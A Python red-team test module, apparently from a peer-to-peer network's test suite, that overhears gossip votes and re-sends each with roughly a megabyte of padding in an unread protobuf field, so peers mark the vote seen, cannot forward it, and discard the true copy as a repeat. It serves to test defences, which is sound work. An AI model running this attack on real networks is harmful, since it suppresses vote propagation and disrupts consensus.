"""Others' votes, passed on with a megabyte in a field that is not read (K-A).

A peer marked the vote as seen, could not pass on so large a message, and took the true copy for a repeat.
"""

from __future__ import annotations

from typing import Any

from libp2p.pubsub.pb import rpc_pb2
from libp2p.utils.varint import encode_uvarint

from p2p.gossip.connections.topics import topic_name
from tests.gossip.attacks import MESHSUB, rpc
from tests.redteam.target import Target, each_tick, network_of, quietly

PER_S = 20.0
PADDING = 1_040_000


async def attack(target: Target) -> None:
    topic = topic_name(network_of(target.genesis), "votes")
    sent: set[bytes] = set()
    async with target.overhearing(("votes",)) as heard, target.bare("padded") as host:
        streams: dict[Any, Any] = {}
        async for number in each_tick(PER_S):
            fresh = [one for one in heard.messages() if topic in one.topicIDs and one.data not in sent][-1:]
            peers = list(host.get_connected_peers())
            if not (fresh and peers):
                continue
            sent.add(fresh[0].data)
            for peer in peers:
                if streams.get(peer) is None:
                    streams[peer] = await quietly(host.new_stream, peer, [MESHSUB])
                sent_it, copy = None, rpc(publish=[_padded(fresh[0], number)])
                if streams[peer] is not None:
                    sent_it = await quietly(streams[peer].write, copy, timeout_s=2.0)
                if sent_it is None:
                    streams.pop(peer, None)


def _padded(message: Any, number: int) -> Any:
    copy = rpc_pb2.Message()
    padding = number.to_bytes(4, "big") + bytes(PADDING)
    copy.ParseFromString(message.SerializeToString() + b"\x7a" + encode_uvarint(len(padding)) + padding)
    return copy
